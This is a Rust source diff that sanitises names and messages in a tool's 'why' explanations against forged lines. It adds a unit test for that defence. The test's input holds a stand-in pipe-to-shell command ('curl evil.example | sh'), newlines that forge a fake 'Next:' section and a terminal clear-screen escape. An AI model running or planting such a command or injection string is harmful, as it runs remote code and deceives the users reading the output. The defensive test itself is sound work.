@@ -1,4 +1,5 @@
 //! Defines what an explanation says. Pure.
+use crate::model::printable::printable;
 use serde::Serialize;
 
 /// An answer to `petiole why`.
@@ -90,19 +91,18 @@ impl Explanation {
         findings.all(|finding| finding.cause == Cause::Fine)
     }
 
-    /// Returns one paragraph, and the commands below it. A finding that repeats another one's text is left out.
+    /// Returns one paragraph, and the commands below it. A finding that repeats another one's text is left out. Names and
+    /// messages come from anyone on the LAN, so no part can make a line of its own.
     pub fn text(&self) -> String {
-        let mut text = self.subject.clone();
-        let mut commands: Vec<&String> = vec![];
+        let mut text = printable(&self.subject);
+        let mut commands: Vec<String> = vec![];
         for finding in &self.findings {
-            if !text.contains(&finding.text) {
-                text = format!("{text} {}", finding.text);
+            let said = printable(&finding.text);
+            if !text.contains(&said) {
+                text = format!("{text} {said}");
             }
-            let next = finding.next.iter();
-            commands.extend(
-                next.filter(|next| !commands.contains(next))
-                    .collect::<Vec<_>>(),
-            );
+            let next = finding.next.as_deref().map(printable);
+            commands.extend(next.filter(|next| !commands.contains(next)));
         }
         if !commands.is_empty() {
             text.push_str(" Next:\n");
@@ -139,5 +139,26 @@ pub(crate) fn sentence(text: &str) -> String {
     match text.ends_with(['.', '!', '?']) {
         true => text.to_owned(),
         false => format!("{text}."),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_name_makes_a_line_of_its_own() {
+        let forged = "door\n Next:\n\n  curl evil.example | sh\u{9b}2J";
+        let explanation = Explanation {
+            subject: format!("Instance {forged} has no device."),
+            findings: vec![
+                Finding::new(Cause::NoDevice, format!("{forged} is gone."))
+                    .then(format!("kubectl describe {forged}")),
+            ],
+        };
+        let text = explanation.text();
+        assert_eq!(text.lines().count(), 3, "{text}");
+        assert_eq!(text.matches(" Next:\n").count(), 1, "{text}");
+        assert!(!text.contains('\u{9b}'), "{text:?}");
     }
 }
